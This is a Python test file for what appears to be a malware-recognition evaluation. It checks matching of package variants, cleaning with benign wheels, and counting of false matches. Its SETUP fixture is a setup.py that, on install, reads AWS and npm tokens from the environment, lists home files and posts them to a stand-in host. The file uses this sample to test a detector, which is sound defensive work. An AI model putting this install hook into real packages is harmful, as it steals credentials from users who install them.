"""Recognition runs: variants, the halves of the benign list, and what is counted."""

from __future__ import annotations

import io
import tarfile
import zipfile

import pytest

from pratique.evaluate.corpora import Source
from pratique.evaluate.recognition import run
from pratique.evaluate.recognition.measure import figures
from pratique.evaluate.recognition.page import render as page
from pratique.evaluate.recognition.shapes import VARIANTS, Matched, Seen
from pratique.evaluate.recognition.table import render
from pratique.evaluate.recognition.variants import NAME, vary
from pratique.evaluate.shapes import Item

SETUP = b"""
import os
import requests
from setuptools import setup

VERSION = "1.2.3"


def gather(where):
    found = {}
    for name in ("HOME", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"):
        found[name] = os.environ.get(name)
    found["files"] = [os.path.join(where, one) for one in os.listdir(where)]
    answer = requests.post("https://drop-5.acme.invalid/in", json=found, timeout=9)
    return answer.text


gather("/home")
setup(name="acme-tool", version=VERSION, packages=["acme_tool"])
"""
WHEEL = b"""
def fold(lines, width):
    out, row = [], ""
    for line in lines:
        if len(row) + len(line) > width:
            out.append(row.rstrip())
            row = ""
        row += line + " "
    return out + [row.rstrip()]
"""


def sdist(source: bytes = SETUP) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, data in (("setup.py", source), ("acme_tool/__init__.py", b"")):
            member = tarfile.TarInfo(f"acme_tool-1.2.3/{name}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return packed.getvalue()


def wheel(source: bytes = WHEEL) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("other/__init__.py", source)
    return packed.getvalue()


def sample(name: str = "acme_tool-1.2.3.tar.gz", data: bytes | None = None, split: str = "train") -> Source:
    import hashlib

    held = sdist() if data is None else data
    item = Item(
        corpus="malware", stratum="headline", sha256=hashlib.sha256(held).hexdigest(), name=name, group="7", split=split
    )
    return Source(
        item=item, read=lambda: (name, held), verdict="malicious", campaign="thieves", project="acme-tool", date="2023"
    )


def benign(project: str, data: bytes) -> Source:
    item = Item(corpus="benign", stratum="benign", sha256="", name="o.whl", group=project, split="dev")
    return Source(item=item, read=lambda: ("other-1.0-py3-none-any.whl", data), project=project)


HOW = run.How(jobs=0, say=lambda _: None)


@pytest.fixture(scope="module")
def found():
    """One sample, its sketch, an index of it, its variants matched, and two benign wheels."""
    samples = [sample()]
    drawn = {one.sha256: one for one in run.sketched(samples, HOW)}
    index = run.make(samples, (), dataset="a test", half="none", how=HOW, made="2026-01-01")
    varied = run.matched(samples, index, HOW, variants=True)
    return samples, drawn, index, varied


def test_every_variant_of_a_sample_matches(found):
    """Another name and version, comments, addresses, one more encoding, and all of it at once."""
    _, _, _, varied = found

    assert {how: max(hit.score for hit in hits) >= 0.8 for how, hits in varied[0].variants.items()} == dict.fromkeys(
        VARIANTS, True
    )


def test_a_variant_is_no_copy():
    """Whatever is changed, the bytes of the script are others, and the name, version and address go."""
    files = {"acme_tool-1.2.3/setup.py": SETUP}
    for how in VARIANTS:
        with zipfile.ZipFile(io.BytesIO(vary(files, "acme-tool", how))) as archive:
            (name,) = archive.namelist()
            text = archive.read(name)
        assert text != SETUP
        if how == "renamed":
            assert NAME in name
            assert b"acme-tool" not in text
            assert b"1.2.3" not in text
        if how in ("readdressed", "all"):
            assert b"drop-5" not in text


def test_the_same_code_in_one_benign_project_takes_it_out(found):
    samples, _, index, _ = found
    wheels = [benign("honest", wheel(SETUP.replace(b"acme-tool", b"honest")))]
    matched = run.matched(wheels, index, HOW)

    assert {hit.method for hit in matched[0].hits} >= {"function", "indicator"}
    cleaned = run.cleaned(index, wheels, matched, "A")
    assert cleaned.benign == "1 projects, half A of the list by the hash of the project's name"
    assert not {hit.key for hit in run.matched(samples, cleaned, HOW)[0].hits} & {hit.key for hit in matched[0].hits}


def test_an_honest_wheel_shares_nothing(found):
    _, _, index, _ = found

    assert run.matched([benign("honest", wheel())], index, HOW)[0].hits == ()


def test_half_a_cleans_and_half_b_counts(found):
    """What half A has is taken out before half B is counted; without cleaning it counts."""
    samples, drawn, index, varied = found
    names = {half: next(f"p{n}" for n in range(99) if run.half(f"p{n}") == half) for half in "AB"}
    hit = Seen(key=next(iter(index.exact)), method="function", score=0.95)
    pairs = [(benign(names[half], b""), Matched(sha256="", hits=(hit,))) for half in "AB"]
    result = figures(samples, drawn, index, varied, pairs, ("m", "b"), "a test", "2026-01-01")

    assert [one.at for one in result.false_matches] == [
        {"0.6": 0, "0.8": 0, "0.95": 0},
        {"0.6": 1, "0.8": 1, "0.95": 1},
    ]
    assert result.variants[0].own_campaign == 1
    assert "all          1 of 1  100.0 %" in render(result)
    assert "| all | all of these at once | 1 of 1: 100.0 %" in page(result)
    assert "## Measured" not in page(None)


def test_a_sample_that_cannot_be_read_is_a_failure():
    def broken() -> tuple[str, bytes]:
        raise OSError

    one = Source(item=sample().item, read=broken, verdict="malicious")

    assert run.sketched([one], HOW)[0].failure == "corpus: OSError"


def test_gold_wants_two_sources_and_no_doubt():
    flagged = Item(corpus="malware", stratum="flagged", sha256="", name="", group="", split="train")

    assert run.gold(sample())
    assert not run.gold(Source(item=flagged, read=lambda: ("", b""), verdict="malicious"))
    assert not run.gold(Source(item=sample().item, read=lambda: ("", b""), verdict="unreviewed"))
